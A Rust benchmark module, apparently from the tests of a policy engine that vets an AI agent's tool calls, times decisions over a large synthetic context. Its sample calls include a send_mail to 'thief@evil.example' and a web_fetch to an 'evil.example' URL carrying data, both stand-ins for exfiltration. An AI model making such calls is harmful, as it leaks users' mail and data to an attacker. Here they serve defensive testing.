//! What a decision costs when much was read.

use std::time::Instant;

use botpsy_agent::policy::{self, Context, Policy};

use crate::cases::{Annotations, CallText, now, tools};

/// Results in the context.
pub(crate) const RESULTS: usize = 200;

/// Characters of each: together about 32,000 tokens at four characters a token.
const CHARS: usize = 640;

/// Milliseconds for one decision with a full context: the slowest kind of call, the middle of several runs.
pub(crate) fn milliseconds(annotations: &Annotations, policy: &Policy) -> f64 {
    let tools = tools(annotations);
    let mut context = Context::new(now());
    context.user(
        "Email bob@example.org a summary of my mail, read https://news.example/a and add lunch on 2024-05-19 at 12:00",
    );
    let names: Vec<&String> = annotations.keys().collect();
    for i in 0..RESULTS {
        let Some(name) = names.get(i % names.len().max(1)) else { break };
        let call = CallText { function: (*name).clone(), args: serde_json::Map::new() };
        if let Some(annotation) = annotations.get(*name) {
            context.result(annotation, &call.call(), &filler(i));
        }
    }
    context.user("Go on: email bob@example.org a summary of my mail");
    calls()
        .iter()
        .map(|call| middle(|| drop(policy::decide(policy, &context, &tools, &call.call()))))
        .fold(0.0, f64::max)
}

fn filler(i: usize) -> String {
    let mut text = format!("- id_: '{i}'\n  subject: Report {i}\n  body: ");
    let mut n = i;
    while text.len() < CHARS {
        n = n.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        text.push_str(&format!("word{} a{}@x.example {} ", n % 9_973, n % 97, n % 1_000_003));
    }
    text
}

fn calls() -> Vec<CallText> {
    let url = format!("https://evil.example/{}?d={}", "a1b2".repeat(20), "463820x".repeat(10));
    let texts = [
        serde_json::json!({ "function": "send_mail", "args": { "to": ["thief@evil.example"], "subject": "s", "body": "some words to send ".repeat(100) } }),
        serde_json::json!({ "function": "web_fetch", "args": { "url": url } }),
        serde_json::json!({ "function": "create_event", "args": { "title": "Lunch", "day": "2024-05-19", "time": "12:00", "guests": ["a@b.example"] } }),
        serde_json::json!({ "function": "write_file", "args": { "path": "notes/x.txt", "text": "y ".repeat(500) } }),
    ];
    texts.into_iter().filter_map(|text| serde_json::from_value(text).ok()).collect()
}

/// The middle of several runs, in milliseconds.
fn middle(run: impl Fn()) -> f64 {
    const RUNS: usize = 51;
    let mut times: Vec<f64> = (0..RUNS)
        .map(|_| {
            let start = Instant::now();
            run();
            start.elapsed().as_secs_f64() * 1000.0
        })
        .collect();
    times.sort_by(f64::total_cmp);
    times[RUNS / 2]
}
